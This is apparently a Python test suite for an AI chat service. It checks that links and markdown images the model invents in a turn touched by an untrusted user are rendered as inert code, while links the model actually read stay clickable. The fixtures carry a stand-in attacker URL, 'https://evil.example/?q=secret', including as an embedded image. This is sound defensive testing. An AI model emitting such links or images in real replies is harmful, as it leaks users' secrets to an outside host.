"""Links in a tainted turn: addresses that the model invented are shown as code. Addresses that it read stay links."""

import json
from pathlib import Path

from tests.scenarios.kit import calls

from shoal.delivery.hub import Hub
from shoal.features.openai_api.routes import GrowingReply
from shoal.kernel.events import AssistantSaid, TextStreamed, TurnFinished
from shoal.permissions.access import AccessRules
from shoal.testing.model import FakeModel, Gate, Reply
from shoal.testing.scenario import scenario

ANSWER = "See https://docs.example.org/guide and https://evil.example/?q=secret."


async def test_an_answer_to_an_untrusted_person_contains_no_invented_link(tmp_path: Path) -> None:
    access = AccessRules(owners=("ada",), allow=("*",))
    async with scenario(tmp_path, FakeModel(ANSWER), access=access) as world:
        eve = world.person("eve", "1", "square")
        await eve.says("Read https://docs.example.org/guide and tell me.")
        post = await eve.sees("evil.example")
        assert post.markdown == "See https://docs.example.org/guide and `https://evil.example/?q=secret`."
        journal = [event.data for event in await world.journal(eve.thread)]
        (said,) = [data.text for data in journal if isinstance(data, AssistantSaid)]
        (reply,) = [data.reply for data in journal if isinstance(data, TurnFinished)]
        assert said == reply == post.markdown


async def test_links_in_messages_sent_by_tools_are_checked(tmp_path: Path) -> None:
    access = AccessRules(owners=("ada",), allow=("*",))
    said = calls("message", arguments=json.dumps({"text": ANSWER}))
    async with scenario(tmp_path, FakeModel(said, "done"), access=access) as world:
        eve = world.person("eve", "1", "square")
        await eve.says("Read https://docs.example.org/guide and tell me.")
        if not world.chat.texts(eve.thread):
            await world.is_quiet()
        shown = [text for text in world.chat.texts(eve.thread) if "evil.example" in text]
        assert shown
        assert all("`https://evil.example/?q=secret`" in text for text in shown)


async def test_links_are_kept_in_a_clean_turn(tmp_path: Path) -> None:
    async with scenario(tmp_path, FakeModel(ANSWER)) as world:
        await world.ada.says("Where is it?")
        assert (await world.ada.sees("evil.example")).markdown == ANSWER


async def test_a_streamed_answer_to_an_untrusted_person_matches_the_final_one(tmp_path: Path) -> None:
    picture = "Look at ![](https://evil.example/?q=secret) here.\n\nThat is all there is to say."
    access = AccessRules(owners=("ada",), allow=("*",))
    async with scenario(tmp_path, FakeModel(picture), access=access) as world:
        eve = world.person("eve", "1", "square")
        with world.app[Hub].subscribe(eve.thread) as coming:
            await eve.says("Draw it.")
            await eve.sees("all there is")
            world.app[Hub].close()
            items = [item.data async for item in coming]
        pieces = [data for data in items if isinstance(data, TextStreamed)]
        (said,) = [data for data in items if isinstance(data, AssistantSaid)]
        text = "".join(piece.text for piece in pieces)
        assert text == "Look at `https://evil.example/?q=secret` here.\n\nThat is all there is to "
        assert said.text == f"{text}say."
        growing = GrowingReply()
        sent = [growing.stream(piece.text, piece.step, piece.offset) for piece in pieces]
        assert "".join([*sent, growing.finish_step(said)]) == said.text


async def test_an_interrupted_answer_contains_no_invented_link(tmp_path: Path) -> None:
    access = AccessRules(owners=("ada",), allow=("*",))
    model = FakeModel(script=lambda seen: Reply(f"{ANSWER} And so on", drop_after=5))
    settings = {"turns": {"retry_base_seconds": 0.001}}
    async with scenario(tmp_path, model, settings=settings, access=access) as world:
        eve = world.person("eve", "1", "square")
        await eve.says("Read https://docs.example.org/guide and tell me.")
        await eve.sees("`https://evil.example/?q=secret`")
        (said,) = [event.data for event in await world.journal(eve.thread) if isinstance(event.data, AssistantSaid)]
        assert "`https://evil.example/?q=secret`" in said.text


async def test_a_stopped_answer_contains_no_invented_link(tmp_path: Path) -> None:
    access = AccessRules(owners=("ada",), allow=("*",))
    gate = Gate()
    model = FakeModel(Reply(f"{ANSWER} And", gate=gate, gate_at=4))
    async with scenario(tmp_path, model, access=access) as world:
        eve = world.person("eve", "1", "square")
        with world.app[Hub].subscribe(eve.thread) as coming:
            await eve.says("Read https://docs.example.org/guide and tell me.")
            shown = ""
            async for item in coming:
                shown += item.data.text if isinstance(item.data, TextStreamed) else ""
                if "and " in shown:
                    break
            await eve.stops()
            await world.happens(eve.thread, "turn_finished")
            gate.open()
        (said,) = [event.data for event in await world.journal(eve.thread) if isinstance(event.data, AssistantSaid)]
        assert said.text == "See https://docs.example.org/guide and `https://evil.example/?q=secret`."
